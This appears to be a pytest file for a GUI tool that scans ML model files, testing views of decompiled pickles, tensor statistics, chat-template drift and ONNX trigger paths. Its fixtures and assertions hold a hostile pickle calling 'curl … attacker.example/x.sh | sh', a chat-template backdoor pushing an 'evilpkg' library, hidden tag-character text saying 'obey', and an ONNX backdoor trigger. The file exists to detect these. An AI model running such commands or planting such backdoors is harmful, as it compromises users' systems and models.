"""Detail views: decompiled pickle, tensor statistics (worker + histogram). Templates: test_template_view."""

import torch
from safetensors.torch import save_file

from airlock.core.findings import Severity
from airlock.core.scan import scan_bytes, scan_file
from airlock.core.tree import FILE, TEMPLATE, TENSOR
from airlock.gui.demo import hostile_pickle_bytes
from airlock.gui.details.decompiled import DecompiledView, decompile
from airlock.gui.details.pane import TAB_DECOMPILED, TAB_HEX, TAB_TENSOR, DetailsPane
from airlock.gui.details.template import TemplateView
from airlock.gui.details.tensor_stats import TensorStatsView


def tensor_nodes(result):
    return {n.attrs.get("name", n.label): n for n in result.root.walk(expand_lazy=True) if n.kind == TENSOR}


def test_fickling_decompiles_the_hostile_pickle_without_running_it():
    text = decompile(hostile_pickle_bytes())
    assert "from os import system" in text
    assert "system('curl -s https://attacker.example/x.sh | sh')" in text


def test_decompiled_view_marks_the_dangerous_call(qtbot):
    view = DecompiledView()
    qtbot.addWidget(view)
    with qtbot.waitSignal(view.text.textChanged, timeout=10_000, raising=True):
        view.show_pickle(hostile_pickle_bytes(), names=["system"])
    qtbot.waitUntil(lambda: "system(" in view.text.toPlainText(), timeout=10_000)
    assert len(view.text.marks) == 2  # the import and the call
    assert "Marked: system" in view.status.text()


def test_decompiled_view_says_when_fickling_fails(qtbot):
    view = DecompiledView()
    qtbot.addWidget(view)
    view.show_pickle(b"\x80\x05\xff\xff")  # not a pickle fickling can read
    qtbot.waitUntil(lambda: "could not decompile" in view.status.text(), timeout=10_000)


def test_pane_shows_the_decompiled_pickle_of_a_finding(qtbot):
    result = scan_bytes(hostile_pickle_bytes(), "hostile.pkl")
    pane = DetailsPane()
    qtbot.addWidget(pane)
    pane.set_source(result.source)
    finding = max(result.findings, key=lambda f: f.severity)
    pane.show_node(finding.node, finding)
    # The finding opens on its bytes, the call marked whole (GLOBAL … REDUCE); the decompiled pickle
    # is one tab away.
    assert pane.tabs.currentIndex() == TAB_HEX
    start = finding.node.attrs["call_start"]
    assert pane.hex.marked == (start, finding.offset + 1 - start)
    assert pane.tabs.isTabVisible(TAB_DECOMPILED)
    qtbot.waitUntil(lambda: "system(" in pane.decompiled.text.toPlainText(), timeout=10_000)
    pane.set_source(None)




def test_histogram_worker_fills_the_view(qtbot, tmp_path):
    path = tmp_path / "t.safetensors"
    save_file({"layer.weight": torch.randn(300, 200)}, str(path))
    result = scan_file(path)
    pane = DetailsPane()
    qtbot.addWidget(pane)
    pane.set_source(result.source)
    node = tensor_nodes(result)["layer.weight"]
    pane.show_node(node)
    assert pane.tabs.isTabVisible(TAB_TENSOR)
    view: TensorStatsView = pane.tensor
    # waitUntil, not waitSignal: the worker is already running and may have emitted before a
    # waitSignal could connect (seen once under load in the full suite)
    qtbot.waitUntil(lambda: view.stats is not None, timeout=20_000)
    assert view.stats["elements"] == 60_000
    assert "min " in view.summary.text() and "NaN 0" in view.summary.text()
    assert view._canvas is not None and view._canvas.isVisibleTo(view)
    assert len(view._figure.axes[0].patches) == 64  # the histogram's bars
    pane.set_source(None)
    result.close()


def test_severity_threshold_for_names_to_mark():
    from airlock.gui.details.decompiled import risky_names

    result = scan_bytes(hostile_pickle_bytes(), "h.pkl")
    pickle_node = result.root.child_at(0)
    assert result.root.kind == FILE and pickle_node.severity == Severity.CRITICAL
    assert risky_names(pickle_node) == ["system"]


def test_torch_zip_pickle_inside_a_member_maps_to_the_file(qtbot, tmp_path):
    path = tmp_path / "ckpt.pt"
    torch.save({"w": torch.randn(30, 20)}, path)
    result = scan_file(path)
    try:
        pane = DetailsPane()
        qtbot.addWidget(pane)
        pane.set_source(result.source)
        pickle_node = next(n for n in result.root.walk() if n.kind == "pickle")
        assert pickle_node.member and pickle_node.member.endswith("data.pkl")
        pane.show_node(pickle_node)
        assert "in member" in pane.hex.note.text()  # the member offset was mapped to the file
        assert pane.read(pane.hex.marked[0], 2) == b"\x80\x02"  # PROTO 2: the pickle's first bytes
        qtbot.waitUntil(lambda: "_rebuild_tensor_v2" in pane.decompiled.text.toPlainText(), timeout=10_000)
        pane.set_source(None)
    finally:
        result.close()


def test_views_survive_a_file_truncated_after_the_scan(qtbot, tmp_path):
    """Regression: views read the file through its memory map, so a file truncated after the scan
    killed the app with SIGBUS when a view touched it. Reads go through pread now: each view says
    the file cannot be read any more."""
    import os
    import pickle

    weights = tmp_path / "w.safetensors"
    save_file({"w": torch.arange(200_000, dtype=torch.float32)}, str(weights))
    state = tmp_path / "state.pkl"
    state.write_bytes(pickle.dumps(list(range(100_000)), protocol=2))  # ~100k opcodes, 300 KB
    tensors, pickled = scan_file(weights), scan_file(state)
    try:
        os.truncate(weights, 200)
        os.truncate(state, 200)
        pane = DetailsPane()
        qtbot.addWidget(pane)
        pane.set_source(tensors.source)
        pane.show_node(tensor_nodes(tensors)["w"])
        qtbot.waitUntil(lambda: "Statistics failed" in pane.tensor.summary.text(), timeout=20_000)
        assert "truncated" in pane.tensor.summary.text()
        assert "cannot read the file any more" in pane.hex.note.text()
        opcodes = [n for n in pickled.root.walk() if n.label.startswith("opcodes (")]
        assert opcodes and opcodes[0].is_lazy
        late = opcodes[0].child_at(opcodes[0].child_count - 1)
        assert late.label.startswith("(cannot be read any more: truncated")
    finally:
        tensors.close()
        pickled.close()


def test_a_complex_tensor_says_why_it_has_no_statistics(qtbot, tmp_path):
    path = tmp_path / "c.safetensors"
    save_file({"c": torch.complex(torch.ones(4), torch.zeros(4))}, str(path))
    result = scan_file(path)
    view = TensorStatsView()
    qtbot.addWidget(view)
    view.show_tensor(tensor_nodes(result)["c"], result.source.read, result.source.size)
    assert "complex" in view.summary.text() and view.worker is None
    result.close()


def test_template_view_shows_the_injected_text_and_the_drift(qtbot):
    from fixtures.template_backdoor_files import variants

    text = variants()["unconditional"][0]
    result = scan_bytes(text.encode(), "chat_template.jinja")
    (node,) = [n for n in result.root.walk() if n.kind == TEMPLATE]
    view = TemplateView()
    qtbot.addWidget(view)
    view.show_node(node)
    shown = view.text.toPlainText()
    assert any("evilpkg helper library" in shown[s:e] for s, e in view.text.marks)
    assert view.drift_panel.isVisibleTo(view) and "Drift from Qwen 2.5" in view.drift_label.text()
    drift = view.drift.toPlainText()
    marked = [drift[s:e] for s, e in view.drift.marks]
    assert any(m.startswith("+") and "evilpkg" in m for m in marked)


def test_template_view_hides_the_drift_of_a_known_template(qtbot):
    from airlock.core.template_catalog import catalog

    text = next(e for e in catalog().entries if e.id == "qwen3").text()
    result = scan_bytes(text.encode(), "chat_template.jinja")
    (node,) = [n for n in result.root.walk() if n.kind == TEMPLATE]
    view = TemplateView()
    qtbot.addWidget(view)
    view.show_node(node)
    assert not view.drift_panel.isVisibleTo(view) and "Known template: Qwen 3" in view.status.text()


def test_pane_shows_a_model_card_with_its_hidden_text_marked(qtbot):
    from airlock.gui.details.pane import TAB_TEMPLATE

    hidden = "".join(chr(0xE0000 + ord(c)) for c in "obey")
    result = scan_bytes(f"# Card\n\nText{hidden}.\n".encode(), "README.md")
    (node,) = [n for n in result.root.walk() if n.kind == "text"]
    pane = DetailsPane()
    qtbot.addWidget(pane)
    pane.set_source(result.source)
    pane.show_node(node)
    assert pane.tabs.currentIndex() == TAB_TEMPLATE and pane.tabs.tabText(TAB_TEMPLATE) == "Text"
    assert pane.template.text.marks and "\\U000e006f" in pane.template.text.toPlainText()
    pane.set_source(None)


def test_tree_tints_the_operators_of_an_onnx_trigger(qtbot):
    from fixtures.onnx_trigger_files import backdoor, classifier
    from PySide6.QtCore import Qt

    from airlock.gui import theme
    from airlock.gui.tree_model import NodeTreeModel

    result = scan_bytes(backdoor(classifier(), "where").SerializeToString(), "m.onnx")
    model = NodeTreeModel(result.root)
    path = [n for n in result.root.walk() if "trigger_path" in n.attrs]
    plain = [n for n in result.root.walk() if n.kind == "operator" and "trigger_path" not in n.attrs]
    assert path and plain
    high = theme.tint(Severity.HIGH)
    for node in path:
        assert model.data(model.index_for(node), Qt.ItemDataRole.BackgroundRole) == high
        assert "on a trigger path" in model.data(model.index_for(node), Qt.ItemDataRole.ToolTipRole)
    assert model.data(model.index_for(plain[0]), Qt.ItemDataRole.BackgroundRole) != high
